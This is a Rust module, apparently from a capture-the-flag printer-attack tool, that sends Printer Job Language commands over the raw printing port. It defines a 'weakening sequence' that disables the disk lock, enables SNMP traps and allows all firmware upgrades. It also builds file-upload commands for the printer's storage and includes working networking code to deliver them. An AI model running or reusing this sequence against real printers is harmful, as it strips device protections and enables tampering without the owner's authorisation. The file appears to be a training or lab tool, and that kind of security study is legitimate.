//! Printer Job Language over the raw printing port.
//!
//! Every command goes out on its own connection, wrapped in the Universal
//! Exit Language sequence on both sides:
//!
//! ```text
//! ESC%-12345X<command>\r\nESC%-12345X\r\n
//! ```
//!
//! One read of up to [`RESPONSE_BUFFER_SIZE`] bytes follows, then the
//! connection is closed. Nothing is reused between commands.

use std::time::Duration;

use ctfprint_common::error::SurfaceError;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::{sleep, timeout};
use tracing::debug;

/// Universal Exit Language: resets the printer's language interpreter.
pub const UEL: &str = "\x1b%-12345X";

pub const RESPONSE_BUFFER_SIZE: usize = 4096;

pub const INFO_STATUS: &str = "@PJL INFO STATUS";

/// Commands sent, in this order, to loosen the printer's protections.
pub const WEAKENING_SEQUENCE: [&str; 4] = [
    INFO_STATUS,
    "@PJL DEFAULT DISKLOCK=OFF",
    "@PJL SET SNMPTRAPS=ON",
    "@PJL SET ALLOWUPGRADE=ALL",
];

/// Wraps a command in the start/end control sequence.
pub fn frame(command: &str) -> String {
    format!("{UEL}{command}\r\n{UEL}\r\n")
}

/// Upload header naming a file on the printer's `0:` volume and the number
/// of bytes `payload` occupies.
pub fn fsupload_command(file_name: &str, payload: &str) -> String {
    format!("@PJL FSUPLOAD NAME=\"0:/{file_name}\" SIZE={}", payload.len())
}

/// Connect, send one framed command, read once, close.
///
/// `settle` is waited between writing and reading so slow printers have a
/// chance to answer. A printer that closes without answering gives an empty
/// string; one that stays silent past `budget` gives [`SurfaceError::Timeout`].
pub async fn send_command(
    authority: &str,
    command: &str,
    budget: Duration,
    settle: Duration,
) -> Result<String, SurfaceError> {
    let mut stream = timeout(budget, TcpStream::connect(authority))
        .await
        .map_err(|_| SurfaceError::Timeout(budget))??;

    stream.write_all(frame(command).as_bytes()).await?;
    debug!("sent '{command}' to {authority}");

    if !settle.is_zero() {
        sleep(settle).await;
    }

    let mut buffer = [0u8; RESPONSE_BUFFER_SIZE];
    let read = timeout(budget, stream.read(&mut buffer))
        .await
        .map_err(|_| SurfaceError::Timeout(budget))??;

    Ok(String::from_utf8_lossy(&buffer[..read]).into_owned())
}

// ╔════════════════════════════════════════════╗
// ║ ████████╗███████╗███████╗████████╗███████╗ ║
// ║ ╚══██╔══╝██╔════╝██╔════╝╚══██╔══╝██╔════╝ ║
// ║    ██║   █████╗  ███████╗   ██║   ███████╗ ║
// ║    ██║   ██╔══╝  ╚════██║   ██║   ╚════██║ ║
// ║    ██║   ███████╗███████║   ██║   ███████║ ║
// ║    ╚═╝   ╚══════╝╚══════╝   ╚═╝   ╚══════╝ ║
// ╚════════════════════════════════════════════╝
